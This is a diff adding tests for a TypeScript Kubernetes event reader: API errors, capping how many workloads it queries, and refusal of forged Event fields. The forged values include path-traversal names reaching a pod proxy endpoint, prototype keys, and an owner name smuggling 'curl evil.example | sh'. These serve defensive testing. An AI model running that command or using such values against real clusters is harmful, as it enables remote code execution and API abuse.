@@ -88,3 +88,38 @@ it("says which permission is missing", async () => {
   const reason = "permission missing: replicasets is forbidden";
   expect((await read([event("ReplicaSet")], {}, reason)).read).toEqual({ ok: false, reason });
 });
+
+it("does not take an API server that answers nothing for a workload that has its pods", async () => {
+  const reason = "the API server answers 503: no reason given";
+  expect((await read([event("ReplicaSet")], {}, reason)).read).toEqual({ ok: false, reason });
+});
+
+it("says where it did not look at all, and looks at the newest first", async () => {
+  const many = Array.from({ length: 101 }, (_, index) => {
+    const one = event("Job", "no", `2026-11-28T10:${String(index % 60).padStart(2, "0")}:00Z`);
+    return { ...one, involvedObject: { ...one.involvedObject, name: `job-${index}` } };
+  });
+  const { read: none } = await read(many, undefined);
+  expect(none).toMatchObject({ ok: false, reason: expect.stringMatching(/101 workloads.*; 1 were not looked at$/) });
+  const newest = { ...event("ReplicaSet", "no", "2026-11-28T11:00:00Z") };
+  const { paths } = await read([...many, newest], undefined);
+  expect(paths[1]).toBe("/apis/apps/v1/namespaces/a/replicasets/x");
+});
+
+it.each([
+  ["kind", "toString", "a", "x"],
+  ["kind", "__proto__", "a", "x"],
+  ["namespace", "Job", "..", "x"],
+  ["name", "Job", "a", "x/../../../../../api/v1/namespaces/a/pods/b:1/proxy/quit"],
+  ["name", "Job", "a", "x?watch=true"],
+])("asks nothing for an Event whose %s is %s %s %s", async (_, kind, namespace, name) => {
+  const forged = { ...event("Job"), involvedObject: { kind, namespace, name } };
+  const { read: found, paths } = await read([forged], { spec: { parallelism: 1 } });
+  expect([found, paths.length]).toEqual([{ ok: true, value: [] }, 1]);
+});
+
+it("has no owner whose name is no name: the hint puts it into a command", async () => {
+  const metadata = { ownerReferences: [{ kind: "Deployment", name: "web; curl evil.example | sh", controller: true }] };
+  const { read: found } = await read([event("ReplicaSet")], { metadata, spec: { replicas: 1 } });
+  expect(found).toEqual({ ok: true, value: [{ kind: "ReplicaSet", namespace: "a", name: "x", message: "no" }] });
+});
